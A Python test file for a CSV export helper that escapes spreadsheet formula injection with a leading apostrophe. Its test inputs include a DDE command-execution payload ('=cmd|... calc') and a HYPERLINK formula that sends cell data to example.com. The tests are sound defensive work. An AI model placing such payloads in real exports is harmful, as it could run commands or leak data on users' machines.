"""CSV that no spreadsheet takes for formulas."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from duebook.exports.cells import csv_line


def read(line: str) -> list[str]:
    """The cells of one line, as a spreadsheet has them."""
    [cells] = csv.reader(io.StringIO(line, newline=""))
    return cells


@pytest.mark.parametrize(
    "text",
    [
        *("=cmd()", "@SUM(A1)", "+1", "-1", "\t=1", "\rx", "\nx", " =1", "\u00a0@x", "\t", "＝1", "＋1", "－1", "＠x"),
        '=HYPERLINK("http://example.com?x="&A1,"x")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_text_like_a_formula_stands_behind_an_apostrophe(text: str) -> None:
    """Given a text that a spreadsheet would take for a formula, when it is a cell, then an apostrophe is before it."""
    assert read(csv_line([text, "after"])) == [f"'{text}", "after"]


@pytest.mark.parametrize("text", ["", "Ann & Sons", "a=b", "a - b", "'=1", "ann@example.com", "1,5", 'say "x"', "a\rb"])
def test_any_other_text_is_as_it_is(text: str) -> None:
    """Given a text that is no formula, when it is a cell, then it is read back as it was."""
    assert read(csv_line(["before", text, "after"])) == ["before", text, "after"]


@pytest.mark.parametrize("number", [0, -1, -(2**63), Decimal("-12.00"), Decimal("0.000"), Decimal("1E+3")])
def test_a_number_stays_a_number(number: int | Decimal) -> None:
    """Given a number, below zero too, when it is a cell, then it is the number."""
    [cell] = read(csv_line([number]))
    assert type(number)(cell) == number


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=2, max_size=4))
def test_no_cell_begins_like_a_formula_and_none_is_lost(texts: list[str]) -> None:
    """For any texts, each is one cell, itself or behind an apostrophe, and none begins like a formula."""
    cells = read(csv_line(texts))
    assert [cell in (text, f"'{text}") for cell, text in zip(cells, texts, strict=True)] == [True] * len(texts)
    assert [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@")] == []
